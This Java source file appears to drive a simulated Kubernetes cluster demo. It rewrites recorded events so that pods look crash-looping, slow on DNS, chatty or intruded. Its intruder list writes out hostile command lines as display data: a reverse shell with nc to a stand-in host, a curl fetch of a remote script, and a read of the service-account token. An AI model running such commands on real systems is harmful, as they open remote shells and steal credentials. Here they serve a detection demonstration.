package io.gadgethq.demo;

import io.gadgethq.demo.SimulatedPod.Role;

import java.time.Duration;
import java.time.Instant;
import java.util.List;

/**
 * What goes on in the simulated cluster: edits of recorded records through their schema, so that any gadget with the
 * field shows it. Records of other pods, and records without these fields, stay as they were recorded.
 */
final class Story {
    /** A crash-looping container lives for {@link #LIFE} out of every {@link #CRASH_PERIOD}. */
    static final Duration CRASH_PERIOD = Duration.ofSeconds(40);

    static final Duration LIFE = Duration.ofSeconds(7);

    /** The intruder types for {@link #SHELL} out of every {@link #SHELL_PERIOD}. */
    static final Duration SHELL_PERIOD = Duration.ofSeconds(45);

    static final Duration SHELL = Duration.ofSeconds(6);

    private static final String NO_BREAK_SPACE = "\u00a0";
    private static final String CACHE = "10.96.88.14";
    private static final int CACHE_PORT = 6_379;

    private static final List<Command> COMMANDS =
            List.of(
                    new Command("sh", "/bin/sh", "/bin/sh -i"),
                    new Command("curl", "/usr/bin/curl", "curl -fsSL http://203.0.113.66/x.sh"),
                    new Command("nc", "/usr/bin/nc", "nc 203.0.113.66 4444 -e /bin/sh"),
                    new Command("cat", "/bin/cat", "cat /var/run/secrets/token"));

    private record Command(String comm, String path, String line) {}

    private Story() {}

    /** How often the pod's container was restarted until now. */
    static long restarts(SimulatedPod pod, Instant now) {
        return pod.role() == Role.CRASH_LOOPING
                ? Duration.between(pod.startedAt(), now).dividedBy(CRASH_PERIOD)
                : 0;
    }

    /** Whether the pod's container waits to be started again: nothing happens in it. */
    static boolean silent(SimulatedPod pod, Instant now) {
        return pod.role() == Role.CRASH_LOOPING
                && phase(pod, now, CRASH_PERIOD).compareTo(LIFE) > 0;
    }

    /** Whether the intruder is at work in this pod. */
    static boolean intruded(SimulatedPod pod, Instant now) {
        return pod.role() == Role.INTRUDED && phase(pod, now, SHELL_PERIOD).compareTo(SHELL) < 0;
    }

    private static Duration phase(SimulatedPod pod, Instant now, Duration period) {
        long since = Math.max(0, Duration.between(pod.startedAt(), now).toMillis());
        return Duration.ofMillis(since % period.toMillis());
    }

    /** How many different things the intruder types. */
    static int commands() {
        return COMMANDS.size();
    }

    /** Whether records of this source should rather belong to a chatty pod than to its neighbours. */
    static boolean hasConnections(SourceFields fields) {
        return fields.has("dst.addr") && fields.has("dst.port") && !fields.has("qr");
    }

    /** What is always so in this pod. */
    static void colour(SourceFields fields, List<byte[]> record, SimulatedPod pod, long restarts) {
        switch (pod.role()) {
            case SLOW_DNS -> slowAnswer(fields, record);
            case CHATTY -> toCache(fields, record);
            case CRASH_LOOPING ->
                    comm(fields, record, restarts % 2 == 0 ? "ledger" : "ledger-migrate");
            case ORDINARY, INTRUDED -> {}
        }
    }

    /** Makes the record one of the intruder's doings. */
    static void intrude(SourceFields fields, List<byte[]> record, int command) {
        Command typed = COMMANDS.get(command % COMMANDS.size());
        comm(fields, record, typed.comm());
        fields.text(record, "args", typed.line().replace(" ", NO_BREAK_SPACE));
        fields.text(record, "exepath", typed.path());
        fields.text(record, "file", typed.path());
        fields.text(record, "proc.parent.comm", "sh");
        fields.text(record, "parent_exepath", "/bin/sh");
        fields.number(record, "error_raw", 0);
        fields.text(record, "error", "");
    }

    private static void comm(SourceFields fields, List<byte[]> record, String comm) {
        fields.text(record, fields.has("proc.comm") ? "proc.comm" : "comm", comm);
    }

    private static void slowAnswer(SourceFields fields, List<byte[]> record) {
        long latency = fields.number(record, "latency_ns_raw");
        if (latency > 0) {
            long slow = Duration.ofMillis(1_800).toNanos() + latency % 900_000_000;
            fields.number(record, "latency_ns_raw", slow);
            fields.text(record, "latency_ns", GoDuration.print(Duration.ofNanos(slow)));
        }
    }

    private static void toCache(SourceFields fields, List<byte[]> record) {
        if (hasConnections(fields)) {
            fields.text(record, "dst.addr", CACHE);
            fields.number(record, "dst.port", CACHE_PORT);
            fields.number(record, "dst.version", 4);
            fields.text(record, "dst.endpoint", CACHE + ":" + CACHE_PORT);
        }
    }
}
